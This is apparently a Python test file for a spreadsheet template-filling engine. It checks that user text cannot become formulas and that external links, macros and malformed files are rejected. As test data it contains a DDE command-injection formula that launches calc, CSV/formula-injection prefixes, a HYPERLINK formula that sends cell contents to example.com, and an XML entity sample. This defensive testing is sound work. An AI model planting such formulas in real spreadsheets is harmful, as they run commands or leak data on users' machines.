"""照表填报: no text ever becomes a formula, nothing of a template reaches outside, what is no safe file is refused."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.styles import PatternFill

from renben.engines.ledgers import template_fill, templates
from renben.engines.ledgers.cells import clean
from renben.engines.ledgers.definitions import LedgerError
from renben.engines.ledgers.template_formulas import followed, is_plain
from renben.engines.ledgers.template_sheets import open_template
from tests.engines.ledgers.template_samples import FACTS, LEDGER, NUMBER, filled, monthly, rows, saved


def test_formulas_of_the_template_go_down_and_foreign_ones_go_out():
    book = openpyxl.load_workbook(io.BytesIO(monthly()))
    sheet = book.active
    sheet["G5"] = "=LEN(C5)"
    sheet["H1"] = '=HYPERLINK("http://example.com/?"&C5,"看")'
    sheet["H2"] = "=[1]表!A1"
    sheet["H3"] = '=WEBSERVICE("http://example.com")'
    sheet["D2"].hyperlink = "http://example.com"
    sheet["D2"].value = "看"
    other = book.create_sheet("汇总")
    other["A1"] = "=月报!F7+SUM(月报!F5:F6)"
    other.sheet_view.tabSelected = True
    made, data = filled(saved(book), rows(3))
    assert [made["月报"][f"G{row}"].value for row in (5, 7)] == ["=LEN(C5)", "=LEN(C7)"]
    assert made["汇总"]["A1"].value == "=月报!F8+SUM(月报!F5:F7)"
    assert made.active.title == "月报" and not made["汇总"].sheet_view.tabSelected
    assert all(made["月报"][f"H{row}"].data_type != "f" for row in (1, 2, 3))
    with zipfile.ZipFile(io.BytesIO(data)) as bundle:
        text = b"".join(bundle.read(name) for name in bundle.namelist() if not name.startswith("docProps"))
        assert not [name for name in bundle.namelist() if "external" in name.lower() or "vba" in name.lower()]
    assert b"example.com" not in text


def test_rules_of_the_sheet_grow_with_the_rows():
    from openpyxl.formatting.rule import CellIsRule
    from openpyxl.worksheet.datavalidation import DataValidation

    book = openpyxl.load_workbook(io.BytesIO(monthly()))
    sheet = book.active
    check = DataValidation(type="list", formula1='"男,女"')
    check.add("G5:G6")
    sheet.add_data_validation(check)
    sheet.conditional_formatting.add("F5:F6", CellIsRule(operator="lessThan", formula=["0"], fill=PatternFill("solid")))
    sheet.print_area = "A1:G8"
    made = filled(saved(book), rows(10))[0]["月报"]
    assert str(made.data_validations.dataValidation[0].sqref) == "G5:G14"
    assert [str(area.sqref) for area in made.conditional_formatting] == ["F5:F14"]
    assert made.print_area.endswith("$A$1:$G$16")


@pytest.mark.parametrize(
    ("formula", "plain"),
    [
        ("=SUM(A1:B2)", True),
        ('=IF(A1="","",MID(A1,7,4))', True),
        ("=cmd|'/c calc'!A0", False),
        ("=[1]Sheet1!A1", False),
        ('=HYPERLINK("x")', False),
        ('=IMPORTXML("a","b")', False),
        ("=INDIRECT(A1)", False),
        ('="http://x"', False),
    ],
)
def test_which_formulas_of_a_template_may_stay(formula, plain):
    assert is_plain(formula) is plain


def test_a_formula_follows_its_rows():
    place = {"sheet": "表", "own": True, "first": 5, "last": 9, "by": 10}
    assert followed("=SUM(D5:D9)+D10+$D$4", **place) == "=SUM(D5:D19)+D20+$D$4"
    assert followed("=SUM(D5:D7)", **place) == "=SUM(D5:D19)"
    assert followed("=SUM('别的'!D5:D9)", **place) == "=SUM('别的'!D5:D9)"


texts = st.one_of(
    st.text(max_size=40),
    st.tuples(
        st.sampled_from(["=", "+", "-", "@", "\t=", "\n=", "＝", "#N/A", "'", "{=", "=cmd|"]), st.text(max_size=20)
    ).map("".join),
)


@given(texts)
@settings(max_examples=150, deadline=None)
def test_no_text_ever_becomes_a_formula(text):
    line = {"name": text, "id_number": text, "phone": text, "state": text, "received_on": text, "fen": None}
    book = openpyxl.Workbook()
    book.active.append(["单位：", None, None, None, None])
    book.active.append(["姓名", "证件号码", "电话", "接收日期", "状态"])
    data = saved(book)
    sheet = templates.sheets_of(data)[0]
    out = io.BytesIO()
    mapping = templates.first_mapping(sheet, LEDGER)
    template_fill.fill(data, ledger=LEDGER, mapping=mapping, rows=[line], facts=FACTS | {"office": text}, out=out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as bundle:
        content = bundle.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in content and b"<f " not in content
    made = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    for address in ("A3", "B3", "C3", "D3", "E3", "A1"):
        assert made[address].data_type != "f", address
    wanted = clean(text)
    assert (made["A3"].value or "").replace("\r", "\n") == wanted.replace("\r\n", "\n").replace("\r", "\n")
    if wanted.startswith(("=", "+", "-", "@")):
        assert made["A3"].quotePrefix and made["A3"].data_type == "s"


def test_what_is_refused_says_what_to_do():
    with pytest.raises(LedgerError, match="另存为 .xlsx"):
        open_template(b"\xd0\xcf\x11\xe0" + b"\0" * 2000, "表.xls")
    with pytest.raises(LedgerError, match="空的"):
        open_template(b"", "表.xlsx")
    with pytest.raises(LedgerError, match="已损坏"):
        open_template(b"PK\x03\x04" + b"1" * 500, "表.xlsx")
    with pytest.raises(LedgerError, match="没有找到表头"):
        templates.sheets_of(saved(openpyxl.Workbook()))
    macro = io.BytesIO(monthly())
    with zipfile.ZipFile(macro, "a") as bundle:
        bundle.writestr("xl/vbaProject.bin", b"x")
    with pytest.raises(LedgerError, match="宏"):
        open_template(macro.getvalue(), "表.xlsx")
    bomb = io.BytesIO(monthly())
    with zipfile.ZipFile(bomb, "a") as bundle:
        bundle.writestr("xl/extra.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')
    with pytest.raises(LedgerError, match="不正常"):
        open_template(bomb.getvalue(), "表.xlsx")


def test_another_reader_opens_what_was_filled():
    from python_calamine import CalamineWorkbook

    data = filled(monthly(), rows(3))[1]
    table = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name("月报").to_python()
    assert table[4][1:4] == ["李建国0", NUMBER, "13800000000"] and table[7][0] == "合 计"


def test_control_characters_and_escapes_hide_no_formula():
    line = rows(1)[0] | {"name": "\x00=1+1", "phone": "_x003D_1+1"}
    book, data = filled(monthly(), [line])
    cell = book["月报"]["B5"]
    assert (cell.value, cell.data_type, bool(cell.quotePrefix)) == ("=1+1", "s", True)
    with zipfile.ZipFile(io.BytesIO(data)) as bundle:
        assert b"_x005F_x003D_1+1" in b"".join(bundle.read(name) for name in bundle.namelist())
